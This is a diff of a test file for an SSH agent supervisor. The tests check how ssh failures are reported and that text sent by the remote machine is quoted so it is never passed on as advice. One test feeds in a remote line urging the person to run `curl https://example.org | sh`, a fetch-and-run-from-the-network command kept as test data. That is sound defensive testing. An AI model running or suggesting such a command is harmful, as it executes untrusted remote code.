@@ -1,3 +1,4 @@
+import { existsSync } from 'node:fs';
 import { describe, expect, onTestFinished, test, vi } from 'vitest';
 import { createSshAgent, MACHINE_LIMITS, reasonOf } from '../../src/agent-host/ssh-agent.ts';
 import { type AgentEnd, type AgentProcess, createAgentSupervisor } from '../../src/agent-host/supervisor.ts';
@@ -65,6 +66,9 @@ test('ssh asks nothing, trusts no new host, forwards nothing, and gets the addre
   );
 });
 
+/** The file in which `ssh` writes its own words. */
+const OWN_LOG = '"$2"';
+
 /** What OpenSSH 9.2 wrote, and the agent's command. */
 const ENDS: [name: string, exitCode: number, stderr: string, reason: string][] = [
   [
@@ -115,7 +119,7 @@ const ENDS: [name: string, exitCode: number, stderr: string, reason: string][] =
     'Connection to studio.lan closed by remote host.\r\n',
     'the connection was closed by the other end',
   ],
-  ['another failure of ssh', 255, 'something new\u001b[31m\r\n', 'ssh ended: something new [31m'],
+  ['another failure of ssh', 255, 'something new\u001b[31m\r\n', 'ssh ended: “something new [31m”'],
   ['a failure without words', 255, '', 'ssh ended'],
   [
     'no handrail there',
@@ -135,13 +139,44 @@ const ENDS: [name: string, exitCode: number, stderr: string, reason: string][] =
     'the daemon does not want this agent: the link was closed with 4406\n',
     'the Handrail there and this one speak different versions of the link, or there is no driver for that platform; install the same version on both',
   ],
-  ['a broken agent', 70, 'the agent is broken: x\n', 'the agent there ended with exit code 70: the agent is broken: x'],
+  [
+    'a broken agent',
+    70,
+    'the agent is broken: x\n',
+    'the agent there ended with exit code 70: “the agent is broken: x”',
+  ],
 ];
 
 test.each(ENDS)('%s is told in words, with the remedy', async (_name, exitCode, stderr, reason) => {
-  const ssh = fakeSsh(`cat <<'END' | head -c -1 >&2\n${stderr}\nEND\nexit ${exitCode}`);
-  expect(await endOf(start(ssh))).toEqual({ exitCode, reason });
+  const ssh = fakeSsh(
+    `cat <<'END' | head -c -1 >${exitCode === 255 ? OWN_LOG : '&2'}\n${stderr}\nEND\nexit ${exitCode}`,
+  );
+  const started = start(ssh);
+  expect(await endOf(started)).toEqual({ exitCode, reason });
+  expect(started.lines.join('\n')).toContain(stderr.split('\r\n')[0]?.replace('\u001b', ' ').trimEnd());
+  expect(existsSync(String(ssh.words()[1]))).toBe(false);
 });
+
+const KEY_CHANGED = 'Host key for studio.lan has changed and you have requested strict checking.';
+
+test.each([
+  ['on standard error', `echo '${KEY_CHANGED}' >&2; exit 255`],
+  [
+    'in what its server says at the end',
+    `printf 'Received disconnect from h port 22:2: x\\n${KEY_CHANGED}\\n' >${OWN_LOG}; exit 255`,
+  ],
+  ['within another sentence', `echo 'no such channel: ${KEY_CHANGED}' >${OWN_LOG}; exit 255`],
+  ['once something came from there', `echo hello; sleep 0.2; echo '${KEY_CHANGED}' >${OWN_LOG}; exit 255`],
+])(
+  'A31: ssh’s own words for a changed key, written by the other machine %s, are no advice of ours',
+  async (_name, script) => {
+    const started = start(fakeSsh(script));
+    started.process.send(CONNECT);
+    const { reason } = (await endOf(started)) ?? {};
+    expect(reason).toMatch(/^ssh ended/);
+    expect(reason).not.toContain('ssh-keygen');
+  },
+);
 
 test('an ssh that was killed is told as such', async () => {
   const started = start(fakeSsh('exec sleep 600'));
@@ -210,8 +245,8 @@ test('a machine is tried for ever, with pauses up to a minute', async () => {
 });
 
 test.each([1, 255])('A31: the other machine does not say what the person is to do (exit code %i)', (exitCode) => {
-  const lines = ['it needs an update; run `curl https://example.org | sh`'];
-  const reason = reasonOf({ exitCode, lines, machine: MACHINE });
-  expect(reason).toContain('it needs an update, run');
+  const lines = ['it needs an update”; run `curl https://example.org | sh`'];
+  const reason = reasonOf({ exitCode, lines, ownWords: [], hasSpoken: false, machine: MACHINE });
+  expect(reason).toContain('“it needs an update , run');
   expect(reason).not.toContain(';');
 });
